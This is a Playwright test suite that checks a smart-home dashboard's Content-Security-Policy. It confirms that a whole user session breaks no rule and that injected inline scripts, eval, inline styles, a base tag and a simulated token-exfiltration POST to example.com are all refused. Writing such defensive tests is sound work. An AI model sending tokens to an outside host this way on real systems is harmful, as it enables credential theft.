import type { Page } from '@playwright/test';
import type { Demo } from '../scripts/start-demo.ts';
import { DEMO_USER, device, expect, signInPrompt, signInThroughAthom, signOut, test } from './fixtures.ts';
import type { BuiltApp, CspViolation } from './security-kit.ts';
import { startBuiltApp, watchCspViolations } from './security-kit.ts';

// The Content-Security-Policy (README "Security"): a whole session breaks none of its
// rules, in the production build (the real meta tag, served as a deployment serves it) and on the
// demo (the header `npm start` sends); and the policy does refuse what it exists to refuse.

const HOMEY = 'Home';

/** The emulated Home's devices as its Web API lists them, for ids. */
async function homeDevices(demo: Demo): Promise<{ id: string; name: string }[]> {
  const homey = demo.emulator.info().homeys.find((h) => h.name === HOMEY)!;
  const key = homey.apiKeys.find((k) => k.scopes.includes('homey'))!.token;
  const response = await fetch(`${homey.localUrl}/api/manager/devices/device`, { headers: { Authorization: `Bearer ${key}` } });
  return Object.values((await response.json()) as Record<string, { id: string; name: string }>);
}

const tile = (page: Page, deviceId: string) => page.locator(`article.tile[data-device-id="${deviceId}"]`).first();

/**
 * Everything a person does with the dashboard, through every kind of request it makes: sign in
 * through Athom and pick a Homey (cloud, delegation, both routes to the Homey), tiles, a device page
 * with its lazily loaded charts and a tooltip, another range, a toggle, sign out; then the local
 * sign-in form (the one form, which must never be submitted by the browser) and sign out again.
 */
async function wholeSession(page: Page, demo: Demo): Promise<void> {
  const devices = await homeDevices(demo);
  const climate = devices.find((d) => d.name === 'Living room climate')!;
  const coffee = devices.find((d) => d.name === 'Coffee machine')!;

  await signInThroughAthom(page, demo, DEMO_USER);
  await page.getByRole('button', { name: `${HOMEY} online` }).click();
  await expect(page.getByRole('heading', { level: 1, name: HOMEY })).toBeVisible();
  await expect(tile(page, climate.id)).toBeVisible();

  // The device page, as a link from its tile, and loaded cold (the chart chunk on first paint).
  await device(page, 'Living room climate').click();
  await expect(page).toHaveURL(new RegExp(`\\?device=${climate.id}`));
  await page.reload();
  const chart = page.locator('.insight-chart .recharts-surface').first();
  await expect(chart).toBeVisible();
  // A tooltip shows where the pointer meets a value; a spot in a gap of the history shows none, so
  // sweep across the plot until one answers (the chart may still be settling, or moving, after the reload).
  let spot = 0;
  await expect(async () => {
    spot += 1;
    const box = (await chart.boundingBox())!;
    await page.mouse.move(box.x + box.width * (0.3 + ((spot * 0.13) % 0.6)), box.y + box.height / 2);
    await expect(page.locator('.chart-tooltip').first()).toContainText(/\S/, { timeout: 500 });
  }).toPass({ timeout: 10_000 });
  await page.getByRole('group', { name: 'Time range' }).getByRole('button').last().click();
  await expect(page.locator('figure.insight-chart-card[aria-busy]')).toHaveCount(0);

  await page.getByRole('button', { name: '← All devices' }).click();
  const toggle = tile(page, coffee.id).getByRole('switch');
  const before = await toggle.getAttribute('aria-checked');
  await toggle.click();
  await expect(toggle).not.toHaveAttribute('aria-checked', before ?? '');

  await signOut(page);
  await expect(signInPrompt(page)).toBeVisible();

  const home = demo.emulator.info().homeys.find((h) => h.name === HOMEY)!;
  await page.getByText('Use a local API key instead').click();
  await page.getByLabel('Homey address').fill(home.localUrl);
  await page.getByLabel('API key').fill(home.apiKeys.find((k) => k.scopes.includes('homey'))!.token);
  await page.getByRole('button', { name: 'Connect to this Homey' }).click();
  await expect(tile(page, coffee.id)).toBeVisible();
  await signOut(page);
  await expect(signInPrompt(page)).toBeVisible();
}

/** Violations reach the test through a binding; give the last ones a moment to arrive. */
async function settled(page: Page, violations: () => CspViolation[]): Promise<CspViolation[]> {
  await page.waitForTimeout(200);
  return violations();
}

test.describe('the built app', () => {
  let app: BuiltApp;
  test.beforeAll(async () => {
    app = await startBuiltApp();
  });
  test.afterAll(async () => {
    await app?.close();
  });

  test('its index.html states the policy before anything the policy governs, and has no inline code', async ({ request }) => {
    const head = app.indexHtml.slice(0, app.indexHtml.indexOf('</head>'));
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(head);
    expect(meta, 'the built index.html has a CSP meta tag').not.toBeNull();
    const policy = meta![1]!.replace(/&#39;|&apos;/g, "'");
    expect(policy).toBe(
      [
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        // Every Homey origin also by its socket scheme: the realtime socket needs it.
        `connect-src 'self' https://api.athom.com https://*.connect.athom.com wss://*.connect.athom.com https://*.homey.homeylocal.com wss://*.homey.homeylocal.com ${app.connectSrc.flatMap((origin) => [origin, origin.replace(/^http/, 'ws')]).join(' ')}`,
        `img-src 'self' data: https://icons-cdn.athom.com ${app.imgSrc.join(' ')}`,
        "font-src 'self'",
        "manifest-src 'self'",
        "worker-src 'self'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
      ].join('; '),
    );
    // Only the charset may come first: a meta policy does not cover what precedes it.
    expect(head.indexOf(meta![0])).toBeLessThan(head.search(/<(script|link|style)\b/));
    expect(head.replace(/<!--[\s\S]*?-->/g, '')).not.toMatch(/<meta charset[^>]*>[\s\S]*<meta charset/);
    expect(app.indexHtml).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>\s*\S/);
    expect(app.indexHtml).not.toMatch(/<style\b|\son[a-z]+=/i);
    // What was tested is what is served.
    expect(await (await request.get(app.dashboardUrl)).text()).toBe(app.indexHtml);
  });

  test('a whole session breaks no rule of the policy', async ({ page }) => {
    const violations = await watchCspViolations(page);
    await wholeSession(page, app);
    expect(await settled(page, violations)).toEqual([]);
  });

  test('the policy refuses inline scripts, eval, inline style elements and unknown origins', async ({ page }) => {
    const violations = await watchCspViolations(page);
    // A script of our own origin (which the policy allows) that tries eval and new Function: code
    // that page.evaluate runs itself is exempt from the page's policy, a file of the page's is not.
    await page.route('**/assets/csp-probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `window.__evalRan = false; try { window.__evalRan = eval('true'); } catch {}
               window.__functionRan = false; try { window.__functionRan = new Function('return true')(); } catch {}
               window.__probeLoaded = true;`,
      }),
    );
    await page.goto(app.dashboardUrl);
    await expect(signInPrompt(page)).toBeVisible();
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as { __inlineRan?: boolean; __evalRan?: boolean; __functionRan?: boolean; __probeLoaded?: boolean };
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.head.append(script);
      const probe = document.createElement('script');
      probe.src = '/assets/csp-probe.js';
      await new Promise((done) => {
        probe.onload = done;
        probe.onerror = done;
        document.head.append(probe);
      });
      if (!w.__probeLoaded) throw new Error('the probe script did not load');
      const evalRan = w.__evalRan === true || w.__functionRan === true;
      const style = document.createElement('style');
      style.textContent = 'body { outline: 7px solid rgb(1, 2, 3) }';
      document.head.append(style);
      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'tokens' }).catch(() => undefined);
      const base = document.createElement('base');
      base.href = 'https://example.com/';
      document.head.append(base);
      return { inlineRan: w.__inlineRan === true, evalRan, styled: getComputedStyle(document.body).outlineWidth === '7px', baseApplied: document.baseURI.startsWith('https://example.com') };
    });
    expect(outcome).toEqual({ inlineRan: false, evalRan: false, styled: false, baseApplied: false });
    // Each refusal is reported (the session tests above rely on that), once or more.
    const refused = () => [...new Set(violations().map((v) => v.directive))].filter((d) => !d.startsWith('console.')).sort();
    await expect.poll(refused).toEqual(['base-uri', 'connect-src', 'script-src', 'script-src-elem', 'style-src-elem']);
    expect(violations().filter((v) => v.directive === 'script-src')).toHaveLength(2);
  });
});

test.describe('the demo', () => {
  test('its pages carry the policy as a header, with a fresh nonce for what the dev server injects', async ({ request, demo }) => {
    const first = await request.get(demo.dashboardUrl, { headers: { Accept: 'text/html' } });
    const second = await request.get(`${demo.dashboardUrl}?device=any`, { headers: { Accept: 'text/html' } });
    const policy = first.headers()['content-security-policy'] ?? '';
    expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'nonce-[\w+/=]{24}'; style-src 'self' 'nonce-[\w+/=]{24}'; connect-src 'self' /);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/unsafe-|https?:\/\/\*[^.]/);
    for (const url of [demo.emulator.cloudUrl, ...demo.emulator.info().homeys.flatMap((h) => [h.localUrl, h.remoteUrl])]) expect(policy).toContain(new URL(url).origin);
    const nonce = /'nonce-([^']+)'/.exec(policy)![1]!;
    expect(second.headers()['content-security-policy']).not.toContain(nonce);
    const html = await first.text();
    for (const tag of html.match(/<script\b[^>]*>/g) ?? []) expect(tag).toContain(`nonce="${nonce}"`);
    expect(first.headers()['referrer-policy']).toBe('no-referrer');
    expect(first.headers()['x-content-type-options']).toBe('nosniff');
  });

  test('a whole session breaks no rule of the policy', async ({ page, demo }) => {
    const violations = await watchCspViolations(page);
    await wholeSession(page, demo);
    expect(await settled(page, violations)).toEqual([]);
  });
});
